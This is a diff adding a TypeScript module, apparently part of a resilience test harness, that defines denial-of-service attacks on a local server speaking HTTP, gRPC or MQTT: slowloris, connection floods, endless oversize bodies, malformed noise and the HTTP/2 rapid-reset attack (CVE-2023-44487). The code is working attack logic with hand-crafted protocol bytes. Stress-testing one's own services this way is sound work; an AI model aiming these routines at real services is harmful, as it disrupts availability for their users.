@@ -1,0 +1,143 @@
+import { type ClientHttp2Session, connect as connectHttp2, constants } from 'node:http2';
+import type { Socket } from 'node:net';
+import { type AbusedDoor, addresses, connectionTo, pour, until } from './abused-door.js';
+
+/** One way of abusing a door, for as long as it may take. */
+export interface Attack {
+  readonly name: string;
+  readonly run: (door: AbusedDoor, forMs: number) => Promise<void>;
+}
+
+const manyConnections = 200;
+const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
+/** SETTINGS without any. */
+const settings = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
+
+/** How each protocol begins, for those who never come to the point. */
+const openings = {
+  http: Buffer.from('POST / HTTP/1.1\r\nhost: localhost\r\nx-slow: '),
+  grpc: Buffer.concat([preface, settings, Buffer.from([0, 255, 0, 1, 4, 0, 0, 0, 1])]),
+  // A CONNECT of 200 bytes.
+  mqtt: Buffer.from([0x10, 0xc8, 0x01, 0, 4, 0x4d, 0x51, 0x54, 0x54, 4, 2]),
+} as const;
+
+/** What goes on without end and has to be refused. */
+const endless = {
+  http: Buffer.from(
+    'POST /x HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 999999999\r\n\r\n[',
+  ),
+  // HEADERS that are continued for ever.
+  grpc: Buffer.concat([preface, settings, Buffer.from([0, 0, 1, 1, 0, 0, 0, 0, 1, 0x83])]),
+  // A packet of 256 MB.
+  mqtt: Buffer.from([0x10, 0xff, 0xff, 0xff, 0x7f]),
+} as const;
+
+const more = {
+  http: Buffer.alloc(64 * 1024, ' '),
+  grpc: Buffer.concat([Buffer.from([0, 0x3e, 0x80, 9, 0, 0, 0, 0, 1]), Buffer.alloc(16_000, 0x10)]),
+  mqtt: Buffer.alloc(64 * 1024, 1),
+} as const;
+
+const open = (door: AbusedDoor): Socket => connectionTo(door, addresses.abuser).resume();
+
+/** Many connections, each of which says a byte now and then. */
+const slowloris: Attack = {
+  name: 'slowloris',
+  run: async (door, forMs) => {
+    const end = performance.now() + forMs;
+    const sockets = Array.from({ length: manyConnections }, () => open(door));
+    for (const socket of sockets) socket.write(openings[door.speaks]);
+    while (performance.now() < end) {
+      for (const socket of sockets.filter(({ writable }) => writable)) socket.write('a');
+      await until(performance.now() + 50);
+    }
+    for (const socket of sockets) socket.destroy();
+  },
+};
+
+/** Connection after connection, each with the beginning of something. */
+const flood: Attack = {
+  name: 'flood of connections',
+  run: async (door, forMs) => {
+    const end = performance.now() + forMs;
+    while (performance.now() < end) {
+      const sockets = Array.from({ length: 20 }, () => open(door));
+      for (const socket of sockets) socket.end(openings[door.speaks]);
+      await until(performance.now() + 10);
+      for (const socket of sockets) socket.destroy();
+    }
+  },
+};
+
+const oversize: Attack = {
+  name: 'oversize',
+  run: async (door, forMs) => {
+    const end = performance.now() + forMs;
+    const work = async () => {
+      const socket = open(door);
+      socket.write(endless[door.speaks]);
+      await pour(socket, more[door.speaks], end);
+      socket.destroy();
+    };
+    await Promise.all(Array.from({ length: 4 }, work));
+  },
+};
+
+/** What is no protocol at all, or the wrong one; the same every time. */
+const malformed: Attack = {
+  name: 'malformed',
+  run: async (door, forMs) => {
+    const end = performance.now() + forMs;
+    for (let seed = 1; performance.now() < end; seed += 1) {
+      const noise = Buffer.from(Array.from({ length: 300 }, (_, at) => (seed * 31 + at * at * 17) % 256));
+      const socket = open(door);
+      socket.end(seed % 2 === 0 ? noise : Buffer.concat([openings[door.speaks], noise]));
+      await until(performance.now() + 5);
+      socket.destroy();
+    }
+  },
+};
+
+const isOpen = ({ closed, destroyed }: ClientHttp2Session): boolean => !closed && !destroyed;
+
+const health = {
+  ':method': 'POST',
+  ':path': '/grpc.health.v1.Health/Check',
+  'content-type': 'application/grpc',
+};
+
+function takeBack(session: ClientHttp2Session): void {
+  for (let call = 0; call < 50 && isOpen(session); call += 1)
+    session
+      .request(health)
+      .on('error', () => undefined)
+      .close(constants.NGHTTP2_CANCEL);
+}
+
+/** Calls that are taken back as soon as they are sent (CVE-2023-44487); who is ended for it comes again. */
+const rapidReset: Attack = {
+  name: 'rapid reset',
+  run: async (door, forMs) => {
+    const end = performance.now() + forMs;
+    while (performance.now() < end) {
+      const session = connectHttp2('http://localhost', {
+        createConnection: () => connectionTo(door, addresses.abuser),
+      });
+      session.on('error', () => undefined);
+      while (performance.now() < end && isOpen(session)) {
+        takeBack(session);
+        await until(performance.now() + 1);
+      }
+      session.destroy();
+    }
+  },
+};
+
+/** Every attack that makes sense at a door. */
+export const attacksOn = ({ speaks }: AbusedDoor): readonly Attack[] => [
+  slowloris,
+  flood,
+  oversize,
+  malformed,
+  ...(speaks === 'grpc' ? [rapidReset] : []),
+];
